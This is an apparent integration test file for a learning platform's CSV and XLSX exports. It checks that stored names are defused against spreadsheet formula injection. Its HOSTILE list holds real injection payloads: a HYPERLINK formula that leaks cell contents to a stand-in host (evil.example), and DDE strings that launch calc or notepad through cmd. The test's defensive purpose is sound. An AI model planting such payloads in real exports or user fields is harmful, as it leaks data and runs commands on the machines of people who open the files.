import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { OBSERVATORY_GROUPS, type CourseFile } from '@tc/shared/contracts';
import { demoCourse } from '@tc/demo/api';
import { createTestApp, type TestApp } from '@tc/shared/testing';

/**
 * CSV/formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with = + - @, a
 * tab or a carriage return. Names and titles that start with them are stored through the API, then
 * every export (cohort roster CSV; observatory completion and competences, CSV and XLSX) is parsed
 * like a spreadsheet would read it, and no cell may start with one of these characters.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One of each dangerous first character, each a plausible attack. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 tabulé',
  '\r=1+1 retour',
];

/** The cells of a CSV file, split on `delimiter` (the roster is `;`-separated for French spreadsheets). */
function csvCells(text: string, delimiter = ','): string[] {
  const rows = parse(text, {
    bom: true,
    delimiter,
    relax_column_count: true,
    skip_empty_lines: false,
  }) as string[][];
  return rows.flat();
}

async function xlsxCells(raw: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(raw as unknown as ArrayBuffer);
  const cells: string[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        // A formula cell is a failure in itself: exports hold values only.
        if (cell.type === ExcelJS.ValueType.Formula) cells.push(`=${String(cell.formula)}`);
        else if (typeof cell.value === 'string') cells.push(cell.value);
        else if (cell.value !== null && cell.value !== undefined) cells.push(String(cell.text));
      }),
    ),
  );
  return cells;
}

describe('exports never start a cell with a formula character (real database)', () => {
  let t: TestApp;
  let admin: string;
  let communeId: string;
  let courseId: string;
  const cohortIds: string[] = [];
  const api = (method: string, url: string, body?: unknown) =>
    t.request(method, url, { token: admin, ...(body !== undefined ? { body } : {}) });

  /** Every cell of every file checked so far, by file, for the "seeds reached the files" check. */
  const seen = new Map<string, string[]>();
  function expectSafe(file: string, cells: string[]): void {
    seen.set(file, cells);
    expect(cells.length).toBeGreaterThan(5);
    const unsafe = cells.filter((c) => FORMULA_START.test(c));
    expect({ file, unsafe }).toEqual({ file, unsafe: [] });
  }

  /** Each invitee sets a password through their link, which enrols them. */
  const acceptAll = async (invited: { url: string }[]) => {
    for (const i of invited) {
      const accepted = await t.request('POST', '/api/v1/auth/links/accept', {
        body: { token: i.url.split('/').pop(), password: 'exports-password-2026' },
      });
      expect(accepted.status).toBe(200);
    }
  };

  beforeAll(async () => {
    t = await createTestApp();
    admin = (await t.signIn('admin@example.org')).accessToken;
    const [berkane] = (await t.dataSource.query(`SELECT id FROM territories WHERE code = 'MA-BER'`)) as {
      id: string;
    }[];
    const commune = await api('POST', '/api/v1/territories', {
      parentId: berkane!.id,
      level: 'commune',
      code: null,
      name: { fr: HOSTILE[0], ar: HOSTILE[1], en: HOSTILE[2] },
    });
    expect(commune.status).toBe(201);
    communeId = commune.body.id as string;

    // The demo course re-imported with hostile course, module and lesson titles, then published.
    const demo = await api('GET', '/api/v1/courses?scope=published');
    const demoId = demo.body.find((c: { slug: string }) => c.slug === demoCourse().slug).id as string;
    const file = (await api('GET', `/api/v1/courses/${demoId}/export?version=1`)).body as CourseFile;
    file.slug = 'formules-dans-les-exports';
    file.title = { fr: HOSTILE[3], ar: HOSTILE[4], en: HOSTILE[5] };
    file.modules.forEach((m, i) => {
      m.title = { fr: HOSTILE[i % HOSTILE.length], ar: HOSTILE[(i + 1) % HOSTILE.length] };
      m.lessons.forEach((l, j) => {
        l.title = { fr: HOSTILE[(i + j + 2) % HOSTILE.length] };
      });
    });
    const imported = await api('POST', '/api/v1/courses/import', file);
    expect(imported.status).toBe(201);
    courseId = imported.body.id as string;
    expect((await api('POST', `/api/v1/courses/${courseId}/publish`)).status).toBe(201);

    // One cohort per hostile name, each with people whose names (and some e-mails) are hostile too.
    for (const [i, name] of HOSTILE.entries()) {
      const cohort = await api('POST', '/api/v1/cohorts', {
        name,
        courseId,
        courseVersion: 1,
        territoryId: communeId,
        startsOn: '2026-01-01',
        endsOn: '2027-12-31',
      });
      expect(cohort.status).toBe(201);
      cohortIds.push(cohort.body.id as string);
      const people = HOSTILE.map((h, j) => [`p${i}-${j}@coop.ma`, h]);
      const csv = [
        'email;full name;territory code',
        ...people.map(([email, full]) => `${email};"${full!.replaceAll('"', '""')}";MA-BER`),
      ].join('\n');
      const res = await t.request(
        'POST',
        `/api/v1/cohorts/${cohort.body.id}/enrolments/import?dryRun=false`,
        {
          token: admin,
          body: csv,
          headers: { 'content-type': 'text/csv; charset=utf-8' },
        },
      );
      expect(res.status).toBe(200);
      // New addresses are invited: the first cohort's accept theirs, so their names reach its roster.
      if (i === 0) await acceptAll(res.body.result.invited);
    }
    // Invited people: their names stored exactly as the hostile list has them (the CSV reader trims around cells).
    for (const [i, name] of HOSTILE.entries()) {
      const invite = await api('POST', '/api/v1/users/invitations', {
        email: `invited-${i}@coop.ma`,
        displayName: name,
        role: 'coach',
        territoryId: berkane!.id,
      });
      expect(invite.status).toBe(201);
    }
    // Names now enter through a normaliser that drops control characters, so a name cannot arrive
    // with a leading tab or carriage return any more; rows written before it (or by hand) still can,
    // and the exports must defuse them all the same.
    for (const [i, name] of HOSTILE.entries())
      await t.dataSource.query('UPDATE users SET display_name = $2 WHERE email = $1', [
        `invited-${i}@coop.ma`,
        name,
      ]);
    const invited = await api('POST', `/api/v1/cohorts/${cohortIds[0]}/enrolments`, {
      emails: HOSTILE.map((_, i) => `invited-${i}@coop.ma`),
    });
    expect(invited.body.enrolled).toHaveLength(HOSTILE.length);
    // Addresses may start with = + - too (RFC 5322 allows them in the local part).
    const emails = await api('POST', `/api/v1/cohorts/${cohortIds[0]}/enrolments`, {
      emails: ['=cmd@coop.ma', '+sum@coop.ma', '-minus@coop.ma'],
    });
    expect(emails.status).toBe(200);
    await acceptAll(emails.body.invited);
    // The enrolments counted in the observatory (the app folds their deltas every 2 seconds).
    await t.fold();
  }, 600_000);
  afterAll(async () => {
    await t?.close();
  });

  it('the seeded names really start with the formula characters (the test has something to catch)', async () => {
    const names = (await t.dataSource.query(
      `SELECT display_name AS v FROM users WHERE email LIKE 'invited-%'
       UNION ALL SELECT name AS v FROM cohorts WHERE id = ANY($1)
       UNION ALL SELECT email AS v FROM users WHERE email LIKE '=%' OR email LIKE '+%' OR email LIKE '-%'`,
      [cohortIds],
    )) as { v: string }[];
    for (const h of HOSTILE) expect(names.map((n) => n.v)).toContain(h);
    expect(names.map((n) => n.v)).toEqual(expect.arrayContaining(['=cmd@coop.ma', '+sum@coop.ma']));
  });

  it('cohort roster CSV', async () => {
    for (const id of cohortIds) {
      const res = await api('GET', `/api/v1/cohorts/${id}/roster?format=csv`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expectSafe(`roster ${id}`, csvCells(String(res.body), ';'));
    }
    const first = seen.get(`roster ${cohortIds[0]}`) ?? [];
    // The hostile names and addresses are in the file, defused (a leading apostrophe), not dropped.
    for (const h of HOSTILE) expect(first).toContain(`'${h}`);
    expect(first).toEqual(expect.arrayContaining(["'=cmd@coop.ma", "'+sum@coop.ma", "'-minus@coop.ma"]));
  }, 300_000);

  it('observatory completion, every grouping, CSV and XLSX, in each language', async () => {
    const all: string[] = [];
    for (const groupBy of OBSERVATORY_GROUPS) {
      for (const format of ['csv', 'xlsx'] as const) {
        for (const lang of ['fr', 'ar', 'en'] as const) {
          const url = `/api/v1/observatory/completion?territoryId=${communeId}&groupBy=${groupBy}&format=${format}&lang=${lang}&courseId=${courseId}`;
          const res = await api('GET', url);
          expect({ url, status: res.status }).toEqual({ url, status: 200 });
          const cells = format === 'csv' ? csvCells(String(res.body)) : await xlsxCells(res.raw);
          expectSafe(url, cells);
          all.push(...cells);
        }
      }
    }
    // The parent's table lists the commune by its hostile name.
    const [berkane] = (await t.dataSource.query(`SELECT id FROM territories WHERE code = 'MA-BER'`)) as {
      id: string;
    }[];
    for (const format of ['csv', 'xlsx'] as const) {
      const res = await api(
        'GET',
        `/api/v1/observatory/completion?territoryId=${berkane!.id}&groupBy=territory&format=${format}`,
      );
      expect(res.status).toBe(200);
      const cells = format === 'csv' ? csvCells(String(res.body)) : await xlsxCells(res.raw);
      expectSafe(`completion MA-BER ${format}`, cells);
      all.push(...cells);
    }
    // Cohort names, course, module and territory names all came through, defused.
    for (const h of HOSTILE) expect(all.some((c) => c.startsWith(`'${h}`))).toBe(true);
    expect(all.some((c) => c.includes(`'${HOSTILE[0]}`))).toBe(true);
  }, 300_000);

  it('observatory competences, CSV and XLSX', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      for (const lang of ['fr', 'ar', 'en'] as const) {
        const url = `/api/v1/observatory/competences?territoryId=${communeId}&format=${format}&lang=${lang}&courseId=${courseId}`;
        const res = await api('GET', url);
        expect({ url, status: res.status }).toEqual({ url, status: 200 });
        expectSafe(url, format === 'csv' ? csvCells(String(res.body)) : await xlsxCells(res.raw));
      }
    }
  }, 300_000);

  it('the checks catch a formula cell (the parsers read what a spreadsheet would)', async () => {
    expect(csvCells('\uFEFFa,"=1+1"\n" \t",b').filter((c) => FORMULA_START.test(c))).toEqual(['=1+1']);
    expect(csvCells('"\tx",y').filter((c) => FORMULA_START.test(c))).toEqual(['\tx']);
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('x');
    sheet.addRow(['ok', '@x']);
    sheet.getCell('C1').value = { formula: 'SUM(1,2)' } as ExcelJS.CellFormulaValue;
    const raw = Buffer.from(await book.xlsx.writeBuffer());
    expect((await xlsxCells(raw)).filter((c) => FORMULA_START.test(c))).toEqual(['@x', '=SUM(1,2)']);
  });
});
